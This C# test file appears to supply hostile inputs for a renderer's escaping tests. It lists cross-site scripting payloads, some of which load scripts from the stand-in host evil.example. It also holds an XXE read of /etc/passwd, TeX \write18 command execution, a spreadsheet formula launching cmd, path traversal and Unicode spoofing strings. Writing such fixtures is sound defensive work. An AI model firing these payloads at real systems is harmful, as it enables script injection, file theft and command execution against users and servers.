namespace AiDigest.Tests.Hostile;

/// <summary>
/// Texts that have broken out of something somewhere: each class of holes has its own, and each of them is tried in several wrappings. All
/// call <c>alert</c> or ask <c>evil.example</c>, so that a browser shows what got through.
/// </summary>
internal static class Payloads
{
    /// <summary>Markup, from the plain to what parsers repair into something else.</summary>
    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</script>", "<<script>alert(1)//<</script>", "<script src=//evil.example/x.js></script>",
        "<script>alert(1)", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "?><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img src='x' onerror='alert(1)'",
        "<img src=//evil.example/p.png>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"></svg>",
        "<math href=javascript:alert(1)>x</math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>",
        "<embed src=//evil.example/x.swf>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>",
        "<audio src onloadstart=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>",
        "<a href=java\tscript:alert(1)>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=refresh content=0;//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>", "<div style=background:url(//evil.example/x.png)>x</div>",
        "<p style='x:expression(alert(1))'>x</p>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<plaintext>", "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;script&amp;gt;alert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "\u02C2script\u02C3alert(1)", "<\u200Bscript>alert(1)</script>",
        "<x contenteditable onblur=alert(1)>x", "<dialog open onclose=alert(1)>", "<custom-element onclick=alert(1)>x</custom-element>",
    ];

    /// <summary>What ends an attribute, a string of JSON or JavaScript, a comment, a group of BibTeX or TeX, a value of YAML.</summary>
    private static readonly string[] Ends =
    [
        "\" onmouseover=alert(1) x=\"", "' onmouseover='alert(1)", "` onmouseover=alert(1) `", "\" autofocus onfocus=alert(1) \"",
        "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\"/><svg onload=alert(1)>",
        "\\\"><img src=x onerror=alert(1)>",
        "\";alert(1);//", "';alert(1);//", "\\\";alert(1);//", "\"}</script><script>alert(1)</script>", "\"});alert(1);({\"",
        "\u2028alert(1)",
        "\u2029alert(1)", "${alert(1)}", "{{ alert(1) }}", "{% include 'x' %}", "<%= alert(1) %>", "#{alert(1)}", "}, note = {alert(1)",
        "} @article{forged, title = {alert(1)", "{{{{", "}}}}", "\\}", "\\{", "%}", "\\input{/etc/passwd}", "\\write18{id}", "# alert(1)",
        "\\href{javascript:alert(1)}{x}", "$\\href{javascript:alert(1)}{x}$", "$\\style{background:url(//evil.example)}{x}$",
        "$\\unicode{x3c}script\\unicode{x3e}$", "$\\text{<img src=x onerror=alert(1)>}$", "$$\\def\\x{\\x\\x}\\x$$",
        "{\"@type\":\"Thing\"}", "null", "=cmd|' /C calc'!A0", "../../../../etc/passwd", "..\\..\\x", "/\\evil.example", "//evil.example/x",
    ];

    /// <summary>Markdown that becomes addresses, attributes or markup where its parser is careless.</summary>
    private static readonly string[] Markdown =
    [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))", "[x](javascript&colon;alert(1))",
        "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1))", "[x](\\javascript:alert(1))", "[x](java%73cript:alert(1))",
        "[x](vbscript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](blob:https://evil.example/1)",
        "[x](https://a.example/\"onmouseover=\"alert(1))", "[x](https://a.example/ \"t\" onclick=alert(1))",
        "[x](https://a.example/ '\"><script>alert(1)</script>')", "<javascript:alert(1)>", "<https://a.example/\"onclick=\"alert(1)>",
        "https://a.example/\"onmouseover=\"alert(1)", "[x][y]\n\n[y]: javascript:alert(1)", "[^1]\n\n[^1]: <script>alert(1)</script>",
        "`<script>alert(1)</script>`", "```\"><script>alert(1)</script>\nx\n```", "```html onload=alert(1)\n<script>alert(1)</script>\n```",
        "# <script>alert(1)</script>", "# x {#y onclick=alert(1)}", "{: onclick=alert(1)}", "| <script>alert(1)</script> |\n|---|\n| \" onclick=\" |",
        "- [ ] <img src=x onerror=alert(1)>", "x\n:   <script>alert(1)</script>", "***<script>alert(1)</script>***",
        "~~<img src=x onerror=alert(1)>~~", "[<img src=x onerror=alert(1)>](https://a.example/)", "\\<script>alert(1)\\</script>",
    ];

    /// <summary>Characters that change how the text around them is read.</summary>
    private static readonly string[] Unicode =
    [
        "\u202Ealert(1)\u202C", "\u2066<b>\u2069", "\u200B\u200C\u200D\u2060", "\uFEFF<script>", "\u00AD<script>",
        "\u0130\u0131\u017F\u212A",
        "\uFF02 onclick=alert(1)", "\uFF07\uFF1E", "e\u0301\u0301\u0301\u0301\u0301", "\U000E0041\U000E0042", "\uD83D\uDE00<i>",
        "\u1680\u180E\u3000x",
    ];

    /// <summary>Every payload, alone and wrapped.</summary>
    public static readonly string[] All =
    [
        .. new[] { Markup, Ends, Markdown, Unicode }.SelectMany(one => one),
        .. Markup.Select(one => "\"'>" + one),
        .. Markup.Select(one => one.Replace("alert(1)", "alert`1`", StringComparison.Ordinal) + "\"'"),
        .. Ends.Select(one => "x" + one + "<!--"),
    ];

    /// <summary>A payload on one line, as front matter can hold it.</summary>
    public static string Line(string payload) => payload.Replace('\n', ' ').Replace('\t', ' ');
}
